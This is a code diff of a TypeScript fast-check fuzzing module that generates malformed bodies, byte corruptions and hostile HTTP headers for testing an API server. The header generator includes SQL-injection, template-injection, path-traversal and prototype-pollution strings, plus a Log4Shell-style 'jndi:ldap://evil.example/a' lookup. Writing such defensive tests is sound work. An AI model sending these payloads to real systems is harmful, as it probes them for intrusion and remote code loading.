@@ -108,10 +108,15 @@ const shapes: unknown[] = [
   JSON.parse('{"then":1}'),
   JSON.parse('{"__proto__":{"polluted":1}}'),
   { constructor: { prototype: { polluted: 1 } } },
+];
+/** Too long to be drawn for every field: each body is put to some. */
+export const heavy: unknown[] = [
   Array(20_000).fill('x'),
   Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`k${i}`, i])),
   raw('deep'),
   'x'.repeat(LONG),
+  `${'e'}${'\u0301'.repeat(200_000)}`,
+  Array(2000).fill({ id: 1, organizationId: 1 }),
 ];
 
 const anyText = fc.oneof(
@@ -175,6 +180,59 @@ export function bodiesFor(document: Document, given: JsonSchema, example: unknow
   );
   return fc.oneof({ arbitrary: object, weight: 12 }, { arbitrary: stranger, weight: 1 });
 }
+
+/** What of a request's head is nobody's to rely on; all of it at once. */
+export const headersFor: fc.Arbitrary<Record<string, string>> = fc.record(
+  {
+    'accept-language': fc.constantFrom('tr;q=', '*', 'x'.repeat(5000), 'tr-'.repeat(1000), ',;q=1,;', '\u00ff'),
+    accept: fc.constantFrom(
+      '*/*;q=',
+      'image/png;q=abc',
+      'text/html,'.repeat(500),
+      '\u00ff/\u00fe',
+      'application/json;;',
+    ),
+    'x-request-id': fc.constantFrom('x'.repeat(5000), "' or 1=1 --", '<b>', '\u00ff', '../..', '{{7*7}}'),
+    'x-forwarded-for': fc.constantFrom('nonsense', '1.2.3.4,'.repeat(500), '::ffff:0:0', 'unknown', '0x7f.1'),
+    'x-forwarded-host': fc.constantFrom('evil.example', 'a b', '@'),
+    'if-none-match': fc.constantFrom('"', 'W/', '*', '"x",'.repeat(1000)),
+    'if-modified-since': fc.constantFrom('yesterday', '0', 'Thu, 99 Foo 0000 99:99:99 GMT'),
+    range: fc.constantFrom(
+      'bytes=',
+      'bytes=-',
+      'bytes=9-1',
+      'bytes=0-0,1-1',
+      'bytes=99999999999999999999-',
+      'lines=1-2',
+    ),
+    'last-event-id': fc.constantFrom('nonsense', '-1', '9'.repeat(40), '\u00ff'),
+    'user-agent': fc.constantFrom('x'.repeat(8000), '\u00ff\u00fe', 'jndi:ldap://evil.example/a', ''),
+    origin: fc.constantFrom('null', 'https://evil.example', 'nonsense', 'http://['),
+    cookie: fc.constantFrom('ulak.session_token=%', 'ulak.session_token', '=;=;', '__proto__=1', 'a=b;'.repeat(1000)),
+  },
+  { requiredKeys: [] },
+);
+
+/** Good JSON with the same names twice, and the second of another kind. */
+export const twice = (body: unknown): string => {
+  const json = JSON.stringify(body);
+  const names = Object.keys(body as object).map((name) => `${JSON.stringify(name)}:{"__proto__":[]}`);
+  return `{${[...names, json.slice(1, -1)].filter(Boolean).join(',')}}`;
+};
+
+/** A body of bytes with some of it cut off, changed or said twice. */
+export const brokenBytes = (good: Uint8Array): fc.Arbitrary<Uint8Array> => {
+  const at = fc.nat({ max: good.length });
+  return fc.oneof(
+    at.map((end) => good.subarray(0, end)),
+    fc.tuple(at, fc.uint8Array({ minLength: 1, maxLength: 20 })).map(([place, bytes]) => {
+      const broken = Buffer.from(good);
+      broken.set(bytes.subarray(0, good.length - place), place);
+      return broken;
+    }),
+    fc.tuple(at, at).map(([a, b]) => Buffer.concat([good.subarray(0, a), good.subarray(Math.min(a, b))])),
+  );
+};
 
 /** What a query parameter may be given as. */
 export const queryTexts = fc.oneof(
